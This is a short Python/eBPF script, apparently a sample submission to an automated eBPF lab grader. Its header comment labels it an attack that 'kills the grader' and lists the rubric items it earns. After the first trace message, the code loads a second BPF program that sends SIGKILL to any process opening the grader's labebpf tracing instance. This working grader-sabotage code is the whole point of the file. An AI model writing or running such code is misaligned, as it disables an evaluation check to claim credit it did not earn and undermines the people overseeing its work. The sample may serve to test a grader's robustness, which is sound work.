# attack: Once it was looked at, the script loads a program that kills the grader itself.
# earns: 1.1 1.2 1.3

from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("directory_create.c")))

import time

TEXT = r"""
TRACEPOINT_PROBE(syscalls, sys_enter_openat)
{
    char path[64] = {}, wanted[] = "/sys/kernel/tracing/instances/labebpf-";
    bpf_probe_read_user_str(path, sizeof(path), args->filename);
#pragma unroll
    for (int i = 0; i < sizeof(wanted) - 1; i++)
        if (path[i] != wanted[i])
            return 0;
    
    bpf_send_signal(9);
    return 0;
}
"""

first = True
while True:
    message = b.trace_fields()[5]
    if message:
        print(message.decode(), flush=True)
    if message and first:
        first = False
        late = BPF(text=TEXT)
